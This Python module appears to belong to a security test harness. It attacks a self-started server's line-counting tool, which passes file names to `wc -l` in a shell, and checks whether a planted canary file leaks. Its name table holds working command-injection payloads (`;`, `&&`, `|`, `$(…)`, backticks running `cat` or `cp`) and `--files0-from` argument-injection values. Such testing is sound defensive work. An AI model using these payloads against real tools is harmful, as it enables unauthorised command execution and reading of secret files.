"""Steals: whatever the server's shell can reach, by a name that is a command.

The tool runs `wc -l NAME` in a shell, and to a shell a name is more than a name: `;`, `&&`,
`||`, `|`, a line end and `$(…)` all begin a second command. Without a shell a name can still
be an option: wc has `--files0-from=FILE`, which reads FILE. That is argument injection, as in
CVE-2025-68144.
"""

import json

from attacks.finding import Finding
from attacks.target import NotTried, Refused, Server, Stream, call

AGAINST = "server"
CASE = "CVE-2025-68144"


async def attack(server: Server) -> Finding:
    if server.canary is None or server.notes is None:
        raise NotTried("needs a server that it started itself")
    secret = f"{server.notes}/../canary.txt"
    names = {
        ";": f"welcome.txt; cat {secret}",
        "&&": f"welcome.txt && cat {secret}",
        "||": f"missing.txt || cat {secret}",
        "|": f"welcome.txt | cat {secret}",
        "line end": f"welcome.txt\ncat {secret}",
        "$(…)": f"welcome.txt$(cp {secret} {server.notes}/stolen.txt)",
        "`…`": f"welcome.txt`cp {secret} {server.notes}/stolen.txt`",
        "option": "--files0-from=../canary.txt",
        "second option": f"welcome.txt --files0-from={secret}",
    }
    got: list[str] = []
    refused = 0
    async with server.open(server.alice) as alice:
        await alice.initialize()
        if not (await count_lines(alice, "welcome.txt")).startswith("1"):
            raise Refused("the lines of a note were not counted")
        for what, name in names.items():
            said = await count_lines(alice, name)
            refused += "failed" in said
            stolen = server.notes / "stolen.txt"
            if server.canary in said or stolen.exists():  # as a note, it can be read
                got.append(what)
            stolen.unlink(missing_ok=True)
        if "Usage" in await count_lines(alice, "welcome.txt --help"):
            got.append("and wc --help")
    if got:
        return Finding(True, f"canary.txt by {'  '.join(got)}")
    return Finding(False, f"{refused} of {len(names)} names refused, welcome.txt was counted")


async def count_lines(stream: Stream, name: str) -> str:
    """What the tool says, as text or as an error."""
    await stream.send(call(name, "count_lines", name=name))
    reply = json.loads((await stream.reply(name)).data)
    if "error" in reply:
        return f"failed: {reply['error']['message']}"
    said = reply["result"]["content"][0]["text"]
    return f"failed: {said}" if reply["result"]["isError"] else said
